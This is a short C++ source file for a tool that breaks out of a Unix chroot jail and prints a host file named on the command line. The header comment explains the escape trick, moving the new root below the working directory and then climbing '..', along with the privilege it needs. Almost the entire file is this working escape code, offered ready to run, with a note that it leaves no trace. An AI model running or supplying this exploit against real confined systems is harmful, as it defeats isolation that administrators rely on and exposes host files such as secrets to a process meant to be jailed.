// chroot_escape FILE: reads FILE of the host from inside a jail, and prints it.
//
// The kernel keeps a process below its root by one rule: ".." of the root is the root. So get out
// of the way of that rule: move the root below the working directory. chroot(2) does not move the
// working directory along, and from there ".." meets no root on its way up. After pivot_root with
// the old root unmounted there is nothing to climb to: the top of all mounts is the container's.
//
// Needs CAP_SYS_CHROOT, as root in a jail and in a container has. It leaves nothing behind.
// Exit code: 0 read, 3 the file is not in sight from the top.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <array>
#include <cstdio>
#include <string>

namespace {

constexpr int not_in_sight = 3;

bool same_folder(const struct stat& a, const struct stat& b) {
    return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

// Up until going up changes nothing.
bool climb_to_the_top() {
    struct stat here {};
    struct stat above {};
    do {
        if (::stat(".", &here) != 0 || ::chdir("..") != 0 || ::stat(".", &above) != 0) return false;
    } while (!same_folder(here, above));
    return true;
}

bool leave_the_jail(const std::string& folder) {
    const int jail = ::open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (jail < 0 || ::mkdir(folder.c_str(), 0700) != 0) return false;
    // The root is now below us, and we are not inside it.
    const bool out = ::chroot(folder.c_str()) == 0 && climb_to_the_top() && ::chroot(".") == 0;
    ::unlinkat(jail, folder.c_str(), AT_REMOVEDIR);
    ::close(jail);
    return out;
}

bool print_file(const char* path) {
    const int file = ::open(path, O_RDONLY | O_CLOEXEC);
    if (file < 0) return false;
    std::array<char, 4096> text{};
    const long length = ::read(file, text.data(), text.size());
    ::close(file);
    if (length < 0) return false;
    return std::fwrite(text.data(), 1, static_cast<std::size_t>(length), stdout) > 0;
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: chroot_escape FILE\n");
        return 2;
    }
    const std::string folder = "escape-" + std::to_string(::getpid());
    if (!leave_the_jail(folder)) {
        std::perror("chroot_escape");
        return 1;
    }
    if (print_file(argv[1])) return 0;
    std::printf("%s: not in sight\n", argv[1]);
    return not_in_sight;
}
